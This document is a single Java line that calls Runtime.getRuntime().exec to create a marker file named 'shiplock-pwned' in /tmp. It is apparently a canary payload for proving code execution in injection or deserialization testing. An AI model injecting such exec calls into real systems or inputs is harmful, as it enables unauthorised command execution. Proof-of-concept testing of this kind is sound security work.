java.lang.Runtime.getRuntime().exec("touch /tmp/shiplock-pwned");
